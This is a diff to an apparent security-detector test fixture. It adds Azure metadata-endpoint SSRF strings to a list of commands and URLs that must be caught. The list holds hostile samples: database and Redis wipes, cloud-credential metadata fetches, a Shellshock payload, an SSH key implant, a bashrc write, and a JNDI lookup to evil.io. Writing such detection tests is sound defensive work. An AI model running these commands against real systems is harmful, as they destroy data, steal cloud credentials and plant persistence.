@@ -30,6 +30,7 @@ CAUGHT = [
     ('psql -c "DROP TABLE users;"', K.COMMAND, "mass_deletion", P0),
     ("redis-cli FLUSHALL", K.COMMAND, "mass_deletion", P0),
     ("curl http://169.254.169.254/latest/meta-data/iam/", K.COMMAND, "ssrf", P0),
+    ("curl -s http://168.63.129.16:32526/vmSettings", K.COMMAND, "ssrf", P0),  # Azure host agent
     ("() { :; }; /bin/sh -c id", K.COMMAND, "shell_injection", P1),
     ("echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys", K.COMMAND, "file_write", P1),
     ("echo 'export X=1' >> ~/.bashrc", K.COMMAND, "file_write", P1),
@@ -118,6 +119,7 @@ CAUGHT = [
     # url
     ("http://169.254.169.254/latest/meta-data/", K.URL, "ssrf", P0),
     ("http://instance-data/latest/", K.URL, "ssrf", P0),
+    ("http://168.63.129.16/machine?comp=goalstate", K.URL, "ssrf", P0),  # Azure WireServer
     ("https://x.io/\u200b${jndi:ldap://evil.io/a}", K.URL, "jndi", P1),
     ("http://2130706433/admin", K.URL, "ssrf", P1),
     ("10.0.0.5:8080/actuator/env", K.URL, "ssrf", P1),
